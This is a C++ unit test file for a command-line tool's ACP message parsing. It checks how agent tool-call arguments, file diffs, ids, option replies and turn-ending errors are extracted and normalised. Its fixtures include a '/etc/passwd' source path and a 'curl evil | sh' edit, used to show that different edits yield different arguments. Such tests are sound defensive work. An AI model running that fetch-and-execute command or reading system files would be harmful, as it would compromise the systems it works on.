// SPDX-License-Identifier: Apache-2.0
#include "cli/acp/messages/acp_message.hpp"

#include <catch2/catch.hpp>
#include <string>
#include <string_view>

#include "cli/base/json.hpp"

using namespace headway::cli;

namespace {

std::string args_of(std::string_view call) {
    return dump(acp_args(Json::parse(call).value()));
}

}  // namespace

TEST_CASE("acp message: arguments are shown whole, and only Codex's lose what names one call",
          "[cli]") {
    CHECK(args_of(R"({"rawInput":{"source":"/etc/passwd","destination":"/srv/x"}})") ==
          R"({"destination":"/srv/x","source":"/etc/passwd"})");
    CHECK(args_of(R"({"rawInput":{"process_id":"7","call_id":"a","command":"kill"}})") ==
          R"({"call_id":"a","command":"kill","process_id":"7"})");
    CHECK(args_of(R"({"rawInput":{"call_id":"a","turn_id":"b","command":["ls"],"source":"x"}})") ==
          R"({"command":["ls"]})");
}

TEST_CASE("acp message: edits that are shown in place of arguments are arguments", "[cli]") {
    const auto edit = [](const std::string& text) {
        return args_of(R"({"title":"Writing to a.sh","locations":[{"path":"/w/a.sh"}],"content":[)"
                       R"({"type":"diff","path":"/w/a.sh","oldText":null,"newText":")" +
                       text + R"("}]})");
    };
    CHECK(edit("ls") == R"({"diffs":[{"new":"ls","old":null,"path":"/w/a.sh"}],)"
                        R"("path":"/w/a.sh","title":"Writing to a.sh"})");
    CHECK(edit("ls") != edit("curl evil | sh"));
}

TEST_CASE("acp message: edits beside arguments are arguments unless these tell them", "[cli]") {
    const auto args = [](const std::string& input, const std::string& before = "null") {
        return args_of(R"({"rawInput":)" + input + R"(,"title":"T","content":[{"type":"diff",)" +
                       R"("path":"/w/a","oldText":)" + before + R"(,"newText":"new"}]})");
    };
    const std::string diffs = R"("diffs":[{"new":"new","old":null,"path":"/w/a"}])";
    CHECK(args(R"({"path":"/w/a"})") == "{" + diffs + R"(,"path":"/w/a"})");
    CHECK(args(R"({"file_path":"/w/a","content":"new"})") ==
          R"({"content":"new","file_path":"/w/a"})");
    CHECK(args(R"({"edits":[{"path":"/w/a","new":"new","old":"old"}]})", R"("old")") ==
          R"({"edits":[{"new":"new","old":"old","path":"/w/a"}]})");
    CHECK(args(R"({"file_path":"/w/a","content":"new"})", R"("old")") !=
          args_of(R"({"rawInput":{"content":"new","file_path":"/w/a"}})"));
    CHECK(args("[1]") == "{" + diffs + R"(,"input":[1]})");
    CHECK(args(R"({"diffs":2})") == "{" + diffs + R"(,"input":{"diffs":2}})");
    // Codex's patch is shown, and what it makes is bound.
    const std::string patch = R"({"call_id":"a","turn_id":"b","changes":{"/w/a":{"diff":"+new"}}})";
    CHECK_THAT(args(patch),
               Catch::StartsWith(R"({"changes":{"/w/a":{"diff":"+new"}},"diffs":[{"digest":")"));
    CHECK(args(patch) != args(patch, R"("old")"));
}

TEST_CASE("acp message: texts are arguments where there are no others, else remarks", "[cli]") {
    const std::string shown =
        R"("title":"Run a command","content":[{"type":"content","content":{"type":"text","text":"ls"}},)"
        R"({"type":"content","content":{"type":"resource_link","uri":"file:///w"}}])";
    CHECK(
        args_of("{" + shown + "}") ==
        R"({"text":"ls\n{\"type\":\"resource_link\",\"uri\":\"file:///w\"}","title":"Run a command"})");
    CHECK(args_of(R"({"rawInput":{"a":1},)" + shown + "}") == R"({"a":1})");
    CHECK_THAT(acp_remarks(Json::parse(R"({"rawInput":{"a":1},)" + shown + "}").value()),
               Catch::StartsWith("Run a command\nls\n"));
    CHECK(args_of(R"({"title":"Move","locations":[{"path":"/a"},{"line":1},{"path":"/b"}]})") ==
          R"({"paths":["/a","/b"],"title":"Move"})");
}

TEST_CASE("acp message: an id is the same in any form of its number", "[cli]") {
    const auto id = [](const char* text) { return acp_id(Json::parse(text).value()); };
    for (const char* five : {"5", "5.0", "5e0", "50e-1"})
        CHECK(id(five) == "5");
    CHECK(id("-0") == "0");
    CHECK(id("5.5") == "5.5");
    CHECK(id("\"5\"") == "\"5\"");
    CHECK(id("null") == "null");
    CHECK(id("18446744073709551615") == "18446744073709551615");
}

TEST_CASE("acp message: a reply that selects an option is found, in a batch as well", "[cli]") {
    const auto selects = [](const char* text) { return acp_selects(Json::parse(text).value()); };
    CHECK(selects(R"({"id":1,"result":{"outcome":{"outcome":"selected","optionId":"y"}}})"));
    CHECK(selects(R"([1,{"id":1,"result":{"outcome":{"outcome":"selected"}}}])"));
    CHECK_FALSE(selects(R"({"id":1,"result":{"outcome":{"outcome":"cancelled"}}})"));
    CHECK_FALSE(selects(R"([{"id":1},[]])"));
}

TEST_CASE("acp message: an error, and any reason but two, is no clean end of a turn", "[cli]") {
    const auto error = [](const std::string& reply) {
        return dump(acp_turn_error(Json::parse(reply).value()));
    };
    CHECK(error(R"({"result":{"stopReason":"end_turn"}})") == "null");
    CHECK(error(R"({"result":{"stopReason":"cancelled"}})") == "null");
    for (const std::string reason : {"refusal", "max_tokens", "max_turn_requests", "new"})
        CHECK(error(R"({"result":{"stopReason":")" + reason + "\"}}") ==
              R"({"class":")" + reason + R"(","ends_turn":true,"message":"the turn ended: )" +
                  reason + "\"}");
    for (const char* reply : {R"({"result":{"stopReason":null}})", R"({"result":null})", "{}"})
        CHECK(error(reply) ==
              R"({"ends_turn":true,"message":"the turn ended: no reason was sent"})");
    CHECK(error(R"({"error":{"code":-32000,"message":"Authentication required"}})") ==
          R"({"ends_turn":true,"message":"Authentication required","status":401})");
    CHECK(error(R"({"error":{"code":-32603,"message":"Internal error","data":{"details":"x"}}})") ==
          R"({"ends_turn":true,"message":"Internal error: x"})");
    CHECK(error(R"({"error":{"code":-32603,"message":""}})") ==
          R"({"ends_turn":true,"message":"the agent answered the prompt with the error -32603"})");
}
